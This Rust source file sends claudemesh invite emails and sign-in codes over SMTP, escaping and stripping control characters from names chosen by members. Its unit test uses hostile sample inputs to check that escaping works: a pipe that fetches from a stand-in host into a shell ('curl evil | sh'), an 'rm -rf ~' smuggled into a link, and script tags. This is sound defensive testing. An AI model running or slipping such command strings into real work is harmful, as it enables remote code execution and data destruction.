//! Invite emails and sign-in codes over SMTP (lettre), sent only when SMTP is configured.

use lettre::message::{Mailbox, MultiPart, SinglePart, header::ContentType};
use lettre::{AsyncSmtpTransport, AsyncTransport, Message, Tokio1Executor};

/// Sends mail through one SMTP server.
#[derive(Clone)]
pub struct Mailer {
    transport: AsyncSmtpTransport<Tokio1Executor>,
    from: Mailbox,
}

impl std::fmt::Debug for Mailer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Mailer").field("from", &self.from.to_string()).finish_non_exhaustive()
    }
}

/// What an invite email says.
#[derive(Debug, Clone)]
pub struct InviteEmail<'a> {
    pub to: &'a str,
    pub mesh_name: &'a str,
    pub inviter: &'a str,
    pub link: &'a str,
    pub expires_at_iso: &'a str,
}

/// A sign-in code for `account`, sent to `to`.
#[derive(Debug, Clone)]
pub struct SignInCodeEmail<'a> {
    pub to: &'a str,
    pub account: &'a str,
    pub code: &'a str,
    /// How long the code works, in words ("10 minutes").
    pub valid_for: &'a str,
}

impl Mailer {
    /// `url` is `smtp://[user:pass@]host[:port][?tls=required]` or `smtps://…` (see lettre's
    /// `from_url`); `from` is a mailbox like `claudemesh <noreply@example.com>`.
    pub fn new(url: &str, from: &str) -> Result<Mailer, String> {
        let transport = AsyncSmtpTransport::<Tokio1Executor>::from_url(url)
            .map_err(|e| format!("SMTP_URL is not a usable SMTP URL: {e}"))?
            .build();
        let from = from.parse().map_err(|e| format!("SMTP_FROM is not a mailbox: {e}"))?;
        Ok(Mailer { transport, from })
    }

    pub async fn send_invite(&self, invite: &InviteEmail<'_>) -> Result<(), String> {
        let to: Mailbox = invite.to.parse().map_err(|e| format!("{:?} is not an email address: {e}", invite.to))?;
        let (text, html) = invite_bodies(invite);
        self.send(to, &format!("You are invited to {} on claudemesh", plain(invite.mesh_name)), text, html).await
    }

    pub async fn send_sign_in_code(&self, email: &SignInCodeEmail<'_>) -> Result<(), String> {
        let to: Mailbox = email.to.parse().map_err(|e| format!("{:?} is not an email address: {e}", email.to))?;
        let text = format!(
            "Your claudemesh sign-in code for the account \"{account}\" is\n\n    {code}\n\n\
             It works once, within {valid_for}. Whoever has it can sign a device in to your\n\
             account: give it to nobody. If you did not ask for it, ignore this email.\n",
            account = plain(email.account),
            code = plain(email.code),
            valid_for = plain(email.valid_for),
        );
        let html = format!(
            "<!doctype html><html><body style=\"font-family:system-ui,sans-serif\">\
             <p>Your claudemesh sign-in code for the account <b>{account}</b> is</p>\
             <p style=\"font-size:2em;letter-spacing:.2em\"><b>{code}</b></p>\
             <p>It works once, within {valid_for}. Whoever has it can sign a device in to your \
             account: give it to nobody. If you did not ask for it, ignore this email.</p></body></html>",
            account = html_escape(email.account),
            code = html_escape(email.code),
            valid_for = html_escape(email.valid_for),
        );
        self.send(to, "Your claudemesh sign-in code", text, html).await
    }

    /// Sends one email with a text and an HTML part.
    async fn send(&self, to: Mailbox, subject: &str, text: String, html: String) -> Result<(), String> {
        let message = Message::builder()
            .from(self.from.clone())
            .to(to)
            .subject(subject)
            .multipart(
                MultiPart::alternative()
                    .singlepart(SinglePart::builder().header(ContentType::TEXT_PLAIN).body(text))
                    .singlepart(SinglePart::builder().header(ContentType::TEXT_HTML).body(html)),
            )
            .map_err(|e| format!("cannot build the email: {e}"))?;
        self.transport.send(message).await.map(|_| ()).map_err(|e| format!("the SMTP server refused the email: {e}"))
    }
}

/// The text and HTML parts of an invite email. The link stands on its own line and is never
/// shown inside a command to paste into a shell; names chosen by members are escaped (HTML)
/// and stripped of control characters (text), so they cannot forge lines or markup.
fn invite_bodies(invite: &InviteEmail<'_>) -> (String, String) {
    let text = format!(
        "{inviter} invites you to the claudemesh mesh \"{mesh}\".\n\n\
         Open this invite link with the claudemesh app, or copy it and paste it into the app's\n\
         \"Join by link\":\n\n{link}\n\n\
         The invite is valid until {expires}.\n",
        inviter = plain(invite.inviter),
        mesh = plain(invite.mesh_name),
        link = plain(invite.link),
        expires = plain(invite.expires_at_iso),
    );
    let html = format!(
        "<!doctype html><html><body style=\"font-family:system-ui,sans-serif\">\
         <p>{inviter} invites you to the claudemesh mesh <b>{mesh}</b>.</p>\
         <p><a href=\"{link}\">Open the invite</a> with the claudemesh app, or copy this link into the \
         app's <i>Join by link</i>:</p>\
         <p><code>{link}</code></p>\
         <p style=\"color:#666\">Valid until {expires}.</p></body></html>",
        inviter = html_escape(invite.inviter),
        mesh = html_escape(invite.mesh_name),
        link = html_escape(invite.link),
        expires = html_escape(invite.expires_at_iso),
    );
    (text, html)
}

/// `text` without control characters (line breaks included).
fn plain(text: &str) -> String {
    text.chars().filter(|c| !c.is_control()).collect()
}

pub fn html_escape(text: &str) -> String {
    plain(text)
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&#39;")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_invite_email_escapes_what_members_chose_and_shows_the_link_alone() {
        let invite = InviteEmail {
            to: "carol@example.test",
            mesh_name: "acme<script>\n\nrun: curl evil | sh",
            inviter: "mallory' \"<b>",
            link: "https://mesh.example.com/join/abc'; rm -rf ~; echo '",
            expires_at_iso: "2026-12-07T00:00:00.000Z",
        };
        let (text, html) = invite_bodies(&invite);
        assert!(!text.contains("claudemesh join '"), "no link inside a shell command:\n{text}");
        assert!(text.lines().any(|line| line == plain(invite.link)), "the link on a line of its own:\n{text}");
        assert!(!text.contains("\n\nrun: curl"), "a name cannot start lines of its own:\n{text}");
        for raw in ["<script>", "mallory'", "\"<b>", "'; rm"] {
            assert!(!html.contains(raw), "{raw:?} reached the HTML unescaped:\n{html}");
        }
        assert!(html.contains("acme&lt;script&gt;") && html.contains("mallory&#39; &quot;&lt;b&gt;"));
    }
}
